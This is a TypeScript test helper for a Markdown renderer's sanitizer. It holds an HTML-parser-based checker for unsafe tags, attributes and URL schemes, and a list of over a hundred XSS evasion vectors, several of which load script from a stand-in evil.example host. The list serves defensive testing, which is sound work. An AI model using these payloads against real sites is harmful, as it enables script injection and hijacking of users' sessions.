/**
 * Known XSS vectors and an independent check of rendered HTML, read by a real HTML parser
 * (htmlparser2, the one sanitize-html itself uses, with entities decoded as a browser decodes them)
 * element by element and attribute by attribute. Vectors from the OWASP XSS filter evasion cheat
 * sheet, the kinds of case DOMPurify's and sanitize-html's fixtures cover, and Markdown's own ways to
 * write a link. Used by the renderer's tests and by the debates' API tests.
 */
import { Parser } from "htmlparser2";

const FORBIDDEN_TAGS = new Set([
  "script",
  "style",
  "iframe",
  "frame",
  "frameset",
  "object",
  "embed",
  "applet",
  "svg",
  "math",
  "form",
  "input",
  "button",
  "textarea",
  "select",
  "option",
  "img",
  "image",
  "video",
  "audio",
  "source",
  "track",
  "base",
  "meta",
  "link",
  "template",
  "noscript",
  "xmp",
  "plaintext",
  "isindex",
  "marquee",
  "body",
  "html",
  "head",
  "title",
]);
const URL_ATTRIBUTES = new Set([
  "href",
  "src",
  "srcset",
  "action",
  "formaction",
  "xlink:href",
  "background",
  "poster",
  "data",
  "codebase",
  "cite",
  "lowsrc",
  "dynsrc",
]);
const SAFE_SCHEMES = new Set(["http", "https", "mailto"]);
const BLOCKS_WITH_DIR = new Set(["p", "li", "h2", "h3", "h4", "th", "td"]);
const REQUIRED_REL = ["nofollow", "noopener", "noreferrer"];

/** Every way the output could run script or mislead, read by a real HTML parser. */
export function unsafeParts(html: string): string[] {
  const problems: string[] = [];
  const parser = new Parser(
    {
      onopentag(name, attributes) {
        const tag = name.toLowerCase();
        if (FORBIDDEN_TAGS.has(tag)) problems.push(`<${tag}>`);
        for (const [rawName, value] of Object.entries(attributes)) {
          const attribute = rawName.toLowerCase();
          if (attribute.startsWith("on")) problems.push(`${attribute} on <${tag}>`);
          if (attribute === "style") problems.push(`style on <${tag}>`);
          if (attribute === "dir" && !["auto", "rtl", "ltr"].includes(value)) problems.push(`dir="${value}"`);
          if (URL_ATTRIBUTES.has(attribute)) {
            // Browsers skip control characters and spaces inside a scheme.
            const compact = value.replace(/[\p{Cc}\p{Z}\u200B-\u200F\u2028\u2029\uFEFF]/gu, "");
            const scheme = /^([a-z][a-z0-9+.-]*):/i.exec(compact)?.[1]?.toLowerCase();
            if (scheme !== undefined && !SAFE_SCHEMES.has(scheme)) problems.push(`${attribute}="${value}"`);
            if (/^[/\\]{2}/.test(compact) || /^\/\\/.test(compact)) problems.push(`protocol-relative ${attribute}`);
            if (attribute !== "href") problems.push(`${attribute} on <${tag}>`);
          }
        }
        if (tag === "a" && /^(https?:)?\/\//i.test(attributes.href ?? "")) {
          const rel = (attributes.rel ?? "").split(/\s+/);
          for (const word of REQUIRED_REL) if (!rel.includes(word)) problems.push(`external link without rel ${word}`);
        }
        if (BLOCKS_WITH_DIR.has(tag) && attributes.dir !== "auto") problems.push(`<${tag}> without dir="auto"`);
      },
    },
    { decodeEntities: true, lowerCaseTags: false, lowerCaseAttributeNames: false, recognizeSelfClosing: true },
  );
  parser.write(html);
  parser.end();
  return problems;
}

/** More than a hundred vectors, each written as a user could type it or as raw HTML a broken parser could let through. */
export const xssVectors: string[] = [
  // Script tags, in every case and shape
  "<script>alert(1)</script>",
  "<SCRIPT>alert(1)</SCRIPT>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<script src=https://evil.example/x.js></script>",
  "<script/src=//evil.example/x.js>",
  "<script\n>alert(1)</script\n>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  "<script>alert(1)",
  "</script><script>alert(1)</script>",
  '<script type="text/javascript">alert(1)</script>',
  "<script>/*</script><script>*/alert(1)</script>",
  // Event handlers
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=x OnErRoR=alert(1)>",
  "<img src=x onerror=alert(1)//",
  '<img src="x" onerror="alert(1)"/>',
  "<body onload=alert(1)>",
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  "<div onmouseover=alert(1)>hover</div>",
  "<p onclick=alert(1)>click</p>",
  "<a onfocus=alert(1) autofocus href=#>x</a>",
  "<details open ontoggle=alert(1)>",
  "<video><source onerror=alert(1)>",
  "<audio src=x onerror=alert(1)>",
  "<input onfocus=alert(1) autofocus>",
  "<select onfocus=alert(1) autofocus>",
  "<textarea onfocus=alert(1) autofocus>",
  "<marquee onstart=alert(1)>",
  "<p/onclick=alert(1)>x</p>",
  "<p\tonclick=alert(1)>x</p>",
  "<p\nonclick=alert(1)>x</p>",
  "<p onclick\n=\nalert(1)>x</p>",
  // javascript:, vbscript:, data: URLs, raw and encoded
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  "<a href=javascript:alert(1)>x</a>",
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="jav\tascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="jav&#x0A;ascript:alert(1)">x</a>',
  '<a href="jav&#x0D;ascript:alert(1)">x</a>',
  '<a href="java&Tab;script:alert(1)">x</a>',
  '<a href="java&NewLine;script:alert(1)">x</a>',
  '<a href="javascript&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
  '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="java&#0;script:alert(1)">x</a>',
  '<a href=" &#14;  javascript:alert(1)">x</a>',
  '<a href="\u2028javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="javascript:alert(1)" href="https://a.ma">dup</a>',
  "[x](javascript:alert(1))",
  "[x](JAVASCRIPT:alert(1))",
  "[x](jav&#x61;script:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](%6Aavascript:alert(1))",
  "[x](java\u0000script:alert(1))",
  "[x](java\u200bscript:alert(1))",
  "[x](\uff4a\uff41\uff56\uff41\uff53\uff43\uff52\uff49\uff50\uff54:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](//evil.example)",
  "<javascript:alert(1)>",
  "<data:text/html,<script>alert(1)</script>>",
  "[x][r]\n\n[r]: javascript:alert(1)",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml,<svg onload=alert(1)>)",
  "[![a](javascript:alert(1))](javascript:alert(1))",
  // SVG and MathML
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)>",
  "<svg><script>alert(1)</script></svg>",
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<math href="javascript:alert(1)">CLICKME</math>',
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
  "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
  // Malformed and mutated markup
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>">',
  "<IMG SRC=\"`javascript:alert('XSS')\"",
  '<IMG SRC=`javascript:alert("x")`>',
  "<<img src=x onerror=alert(1)>>",
  "<img src=x onerror=alert(1) <p>",
  '<p title="</p><img src=x onerror=alert(1)>">x</p>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<xmp><img src=x onerror=alert(1)></xmp>",
  "<template><script>alert(1)</script></template>",
  "<!--<img src=x onerror=alert(1)>-->",
  "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
  "<![CDATA[><script>alert(1)</script>]]>",
  "<?xml-stylesheet href=javascript:alert(1)?>",
  "<p><script>alert(1)<p></script>",
  "<a href=\"https://a.ma\"><a href='javascript:alert(1)'>in</a></a>",
  // CSS: expressions, url(), imports, behaviours
  "<p style=\"background:url('javascript:alert(1)')\">p</p>",
  '<p style="width:expression(alert(1))">p</p>',
  '<div style="behavior:url(x.htc)">x</div>',
  "<style>@import 'https://evil.example/x.css';</style>",
  "<style>body{background:url(javascript:alert(1))}</style>",
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<p STYLE="xss:expr/*XSS*/ession(alert(1))">p</p>',
  // Frames, objects, embeds
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<IFRAME SRC="https://evil.example"></IFRAME>',
  '<frameset><frame src="javascript:alert(1)"></frameset>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<applet code="x.class"></applet>',
  // Meta refresh, base, forms
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<meta http-equiv="refresh" content="0; url=data:text/html,<script>alert(1)</script>">',
  "<BASE HREF=\"javascript:alert('XSS');//\">",
  "<form action=javascript:alert(1)><button>go</button></form>",
  "<form><button formaction=javascript:alert(1)>X</button></form>",
  "<isindex type=image src=1 onerror=alert(1)>",
  // Attribute and quote breaking, from Markdown
  '[x](https://tashawur.ma "t\\" onmouseover=\\"alert(1)")',
  "[x](https://a.ma 'a\" onclick=\"alert(1)')",
  '[x](https://a.ma/"onmouseover="alert(1))',
  '[x](https://a.ma/"><script>alert(1)</script>)',
  "`<img src=x onerror=alert(1)>`",
  "| <script> | b |\n|---|---|\n| [x](javascript:alert(1)) | <img src=x> |",
  "# x {onclick=alert(1)}",
  '<p dir="rtl" onclick="alert(1)">p</p>',
  '<p dir="x" onclick="alert(1)">p</p>',
  "<bdo dir=rtl>x</bdo>",
  // Null bytes and odd characters
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "<img src=x o\u0000nerror=alert(1)>",
  "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
  '<a href="https://a.ma" target=_self rel=opener>ok</a>',
  "https://a.ma/<script>alert(1)</script>",
];
